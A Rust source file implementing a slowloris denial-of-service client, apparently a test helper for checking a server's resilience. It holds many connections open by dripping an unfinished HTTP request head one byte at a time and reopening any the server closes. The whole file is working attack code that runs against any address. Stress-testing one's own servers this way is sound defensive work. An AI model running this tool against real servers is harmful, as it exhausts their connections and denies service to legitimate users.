//! A slowloris client: many connections that each send a request head one byte at a time and
//! never finish it, as an attacker holds a server's connections (and descriptors) open with
//! almost no traffic of its own. A connection the server closes is opened again, so the
//! pressure stays.
//!
//! One thread drives every connection with non-blocking sockets: a connection opens (a
//! connect in progress is fine), and every `byte_every` each open one is sent its next byte.

use std::net::SocketAddr;
use std::os::fd::OwnedFd;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use rustix::io::Errno;
use rustix::net::{AddressFamily, SendFlags, SocketFlags, SocketType};

/// What every connection sends, a byte at a time: a head that never ends (a header value
/// that goes on for ever after this).
const HEAD: &[u8] = b"GET / HTTP/1.1\r\nhost: x\r\nx-slow: ";

/// How many connections are opened per pass at most: the flood ramps up rather than sending
/// every SYN at once.
const OPEN_PER_PASS: usize = 2000;

/// The counts a [`Slowloris`] keeps.
#[derive(Debug, Default)]
struct Counts {
    /// Connections open now (connected or connecting).
    open: AtomicUsize,
    /// Connections the server closed (a send failed), each opened again.
    closed_by_server: AtomicUsize,
    /// Sockets that could not even be made (out of descriptors here).
    not_made: AtomicUsize,
}

/// A running slowloris against one address; stops (and closes every connection) when dropped.
pub struct Slowloris {
    stop: Arc<AtomicBool>,
    counts: Arc<Counts>,
    thread: Option<JoinHandle<()>>,
}

/// One connection: its socket and how much of the head it has sent.
struct Conn {
    fd: OwnedFd,
    sent: usize,
}

impl Slowloris {
    /// Starts `connections` slow connections to `addr`, each sent a byte every `byte_every`.
    pub fn start(addr: SocketAddr, connections: usize, byte_every: Duration) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let counts = Arc::new(Counts::default());
        let thread = {
            let (stop, counts) = (Arc::clone(&stop), Arc::clone(&counts));
            std::thread::Builder::new()
                .name("slowloris".into())
                .spawn(move || run(addr, connections, byte_every, &stop, &counts))
                .unwrap()
        };
        Self {
            stop,
            counts,
            thread: Some(thread),
        }
    }

    /// Connections open now.
    pub fn open(&self) -> usize {
        self.counts.open.load(Ordering::SeqCst)
    }

    /// Connections the server has closed so far (each opened again).
    pub fn closed_by_server(&self) -> usize {
        self.counts.closed_by_server.load(Ordering::SeqCst)
    }

    /// Sockets this process could not make (its own descriptor limit).
    pub fn not_made(&self) -> usize {
        self.counts.not_made.load(Ordering::SeqCst)
    }
}

impl Drop for Slowloris {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// A non-blocking socket connecting to `addr`.
fn connect(addr: SocketAddr) -> Result<OwnedFd, Errno> {
    let family = if addr.is_ipv4() {
        AddressFamily::INET
    } else {
        AddressFamily::INET6
    };
    let fd = rustix::net::socket_with(
        family,
        SocketType::STREAM,
        SocketFlags::NONBLOCK | SocketFlags::CLOEXEC,
        None,
    )?;
    match rustix::net::connect(&fd, &addr) {
        Ok(()) | Err(Errno::INPROGRESS) => Ok(fd),
        Err(e) => Err(e),
    }
}

fn run(
    addr: SocketAddr,
    connections: usize,
    byte_every: Duration,
    stop: &AtomicBool,
    counts: &Counts,
) {
    let mut conns: Vec<Option<Conn>> = (0..connections).map(|_| None).collect();
    while !stop.load(Ordering::SeqCst) {
        let pass = Instant::now();
        let mut opened = 0;
        for slot in &mut conns {
            if stop.load(Ordering::SeqCst) {
                break;
            }
            match slot {
                None if opened < OPEN_PER_PASS => {
                    opened += 1;
                    match connect(addr) {
                        Ok(fd) => {
                            *slot = Some(Conn { fd, sent: 0 });
                            counts.open.fetch_add(1, Ordering::SeqCst);
                        }
                        Err(_) => {
                            counts.not_made.fetch_add(1, Ordering::SeqCst);
                        }
                    }
                }
                None => {}
                Some(conn) => {
                    let byte = HEAD.get(conn.sent).copied().unwrap_or(b'a');
                    match rustix::net::send(&conn.fd, &[byte], SendFlags::NOSIGNAL) {
                        Ok(_) => conn.sent += 1,
                        // Still connecting (the server's queue is full), or no room: next pass.
                        Err(Errno::AGAIN | Errno::NOTCONN) => {}
                        Err(_) => {
                            *slot = None;
                            counts.open.fetch_sub(1, Ordering::SeqCst);
                            counts.closed_by_server.fetch_add(1, Ordering::SeqCst);
                        }
                    }
                }
            }
        }
        let left = byte_every.saturating_sub(pass.elapsed());
        // In short naps, so a stop is seen soon.
        let end = Instant::now() + left;
        while !stop.load(Ordering::SeqCst) && Instant::now() < end {
            std::thread::sleep(Duration::from_millis(20).min(left));
        }
    }
}
